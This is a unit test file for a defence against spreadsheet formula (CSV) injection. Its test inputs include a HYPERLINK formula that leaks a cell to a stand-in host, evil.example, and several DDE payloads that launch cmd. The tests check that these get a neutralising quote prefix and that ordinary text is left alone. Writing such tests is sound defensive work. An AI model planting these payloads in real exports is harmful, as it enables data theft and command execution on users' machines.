import { describe, expect, it } from 'vitest';
import { isFormulaLike, neutraliseCell, neutraliseFormula } from '../../src/domain/text/formulaInjection';

describe('formula injection neutralising (OWASP CSV injection)', () => {
  it('prefixes every formula / DDE trigger with a single quote', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
      "=cmd|' /C calc'!A0",
      "+cmd|' /C notepad'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '\u3000=1+1',
      '＝1+1',
      '=1',
    ];
    for (const a of attacks) {
      expect(isFormulaLike(a), a).toBe(true);
      expect(neutraliseFormula(a)).toBe(`'${a}`);
    }
  });

  it('leaves ordinary text, signed numbers written as text and a lone dash alone', () => {
    for (const t of ['中国农业银行安康分行', '富硒茶', '', '-', '—', '-5', '+3.5', '-12.5%', 'a=b', '备注：-5万元', "'=already neutral"]) {
      expect(isFormulaLike(t), t).toBe(false);
      expect(neutraliseFormula(t)).toBe(t);
    }
  });

  it('only touches strings', () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
  });
});
